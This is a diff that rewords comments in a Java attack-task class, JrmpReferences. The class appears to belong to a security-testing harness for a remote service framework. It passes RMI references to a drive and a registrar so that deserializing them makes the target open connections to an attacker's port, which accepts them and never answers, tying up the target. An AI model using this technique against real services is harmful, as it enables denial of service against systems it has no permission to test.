@@ -27,8 +27,8 @@ import org.dfra.river.remote.effector.RemoteDriveEffector;
 import org.jspecify.annotations.Nullable;
 
 /**
- * Calls the drive and the registrar with references of plain RMI in the arguments: to read one
- * starts a thread, which connects to a port of the attacker's. The attacker takes the connections
+ * Calls the drive and the registrar with plain RMI references in the arguments: deserializing one
+ * starts a thread, which connects to a port of the attacker. The attacker accepts the connections
  * and never answers.
  */
 public final class JrmpReferences extends AttackTask {
@@ -38,11 +38,11 @@ public final class JrmpReferences extends AttackTask {
   private static final ServiceTemplate ALL = new ServiceTemplate(null, null, null);
 
   private final List<byte[]> calls = new ArrayList<>();
-  private final List<Socket> open = new ArrayList<>(); // by the thread that takes them
+  private final List<Socket> open = new ArrayList<>(); // by the accepting thread
   private final AtomicInteger connections = new AtomicInteger();
   private @Nullable RemoteEventListener listener;
 
-  /** As every task is made. */
+  /** Called by {@code TaskMain} by reflection. */
   public JrmpReferences() {}
 
   @Override
@@ -71,7 +71,7 @@ public final class JrmpReferences extends AttackTask {
     listener = proxy(RemoteEventListener.class, reference);
   }
 
-  /** Nothing is connected to yet: that is up to whoever reads it. */
+  /** No connection is made here; the deserializing process makes it. */
   private static RemoteObjectInvocationHandler reference(String host, int port) throws IOException {
     Remote registry = LocateRegistry.getRegistry(host, port);
     return new RemoteObjectInvocationHandler(((RemoteObject) registry).getRef());
@@ -87,7 +87,7 @@ public final class JrmpReferences extends AttackTask {
   private void take(ServerSocket server) {
     try {
       while (true) {
-        open.add(server.accept()); // and kept, so that the other side waits
+        open.add(server.accept()); // kept open, so that the other side waits
         connections.incrementAndGet();
       }
     } catch (IOException e) {
